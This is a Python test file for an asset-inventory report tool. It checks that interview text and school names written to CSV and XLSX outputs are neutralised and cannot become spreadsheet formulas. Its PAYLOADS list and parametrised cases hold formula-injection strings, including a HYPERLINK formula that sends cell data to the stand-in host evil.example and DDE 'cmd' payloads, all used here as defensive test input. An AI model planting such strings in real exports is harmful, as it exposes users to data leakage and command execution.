"""Formula injection (issue 12): input text never becomes a spreadsheet formula in CSV or XLSX."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from assetinv.cli import main
from assetinv.safe_tables import FORMULA_TRIGGERS, neutralise_frame

openpyxl = pytest.importorskip("openpyxl")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/x?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
]


@pytest.fixture(scope="module")
def rendered(tmp_path_factory) -> Path:
    from assetinv.simulate import write_sample

    d = tmp_path_factory.mktemp("inject") / "data"
    write_sample(
        d, seed=11, n_schools=3, n_districts=1, respondents_per_school=9, waves=("baseline",), n_interviews=6
    )
    cod = pd.read_csv(d / "codings.csv", dtype=str, keep_default_na=False)
    ex = sorted(cod["excerpt_id"].unique())
    payload = {e: PAYLOADS[i % len(PAYLOADS)] + " we plan labs together" for i, e in enumerate(ex)}
    cod["text"] = cod["excerpt_id"].map(payload)
    cod.to_csv(d / "codings.csv", index=False)
    sch = pd.read_csv(d / "schools.csv", dtype=str, keep_default_na=False)
    sch.loc[0, "name"] = "=1+2 Academy"
    sch.loc[1, "name"] = "@Riverside"
    sch.to_csv(d / "schools.csv", index=False)
    out = d.parent / "reports"
    assert main(["report", "--data", str(d), "--out", str(out), "--quiet"]) == 0
    return out


def test_csv_cells_are_neutralised(rendered):
    seen_payload = 0
    for p in sorted((rendered / "tables").glob("*.csv")):
        with open(p, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        for row in rows:
            for cell in row:
                if cell[:1] in FORMULA_TRIGGERS:
                    float(cell)  # only plain numbers may start with + or -
                if cell.startswith("'") and cell[1:2] in FORMULA_TRIGGERS:
                    seen_payload += 1
    assert seen_payload > 0, "the crafted quotes did not reach any CSV (test would prove nothing)"


def test_xlsx_has_no_formula_and_numbers_stay_numbers(rendered):
    wb = openpyxl.load_workbook(rendered / "assetinv_tables.xlsx")
    texts = negatives = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str) and c.value[:1] in FORMULA_TRIGGERS + ("\n",):
                    assert c.data_type == "s"
                    texts += 1
                if isinstance(c.value, (int, float)) and c.value < 0:
                    assert c.data_type == "n"
                    negatives += 1
    assert texts > 0 and negatives > 0
    with open(rendered / "assetinv_tables.xlsx", "rb") as fh:
        import zipfile

        with zipfile.ZipFile(io.BytesIO(fh.read())) as zf:
            xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml


def test_neutralise_frame_keeps_numeric_columns():
    t = pd.DataFrame({"a": ["=x", "-0.5", "-1+2", "\rcr"], "b": [-1.5, 2.0, None, -3.0], "n": [-1, 2, 3, 4]})
    out = neutralise_frame(t)
    assert out["a"].tolist() == ["'=x", "-0.5", "'-1+2", "'\rcr"]
    pd.testing.assert_series_equal(out["b"], t["b"])
    pd.testing.assert_series_equal(out["n"], t["n"])


@pytest.mark.parametrize(
    "text",
    [
        "\uff1dHYPERLINK(1)",  # full-width equals sign
        "\uff0bcmd",
        "\uff0dcmd",
        "\uff20SUM(1)",
        " =1+1",  # leading blanks before the trigger
        "  +cmd",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        "\n=1+1",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_prefix_variants_are_neutralised(text):
    from openpyxl import Workbook

    from assetinv.safe_tables import append_safe_row, neutralise_cell

    assert neutralise_cell(text) == "'" + text
    ws = Workbook().active
    append_safe_row(ws, [text])
    assert ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert neutralise_cell(" -0.25") == " -0.25" and neutralise_cell("a = b") == "a = b"
